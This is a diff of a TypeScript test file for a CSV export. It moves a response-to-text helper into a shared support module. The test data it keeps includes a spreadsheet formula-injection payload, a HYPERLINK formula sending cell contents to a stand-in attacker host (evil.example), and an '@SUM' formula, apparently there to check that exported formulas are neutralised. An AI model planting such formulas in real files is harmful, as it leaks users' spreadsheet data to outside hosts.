@@ -1,16 +1,9 @@
 import { parse } from 'csv-parse/sync';
-import { Response } from 'supertest';
 import { runCli } from './support/cli-process';
 import { newArticle } from './support/factories';
 import { bearer, mintKey } from './support/keys';
 import { startTestApp, TestApp } from './support/test-app';
-
-function asText(res: Response, done: (error: Error | null, body: string) => void) {
-  let text = '';
-  res.setEncoding('utf8');
-  res.on('data', (chunk: string) => (text += chunk));
-  res.on('end', () => done(null, text));
-}
+import { asText } from './support/text-body';
 
 const TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
 const PUBLISHER = '@SUM(1+1)';
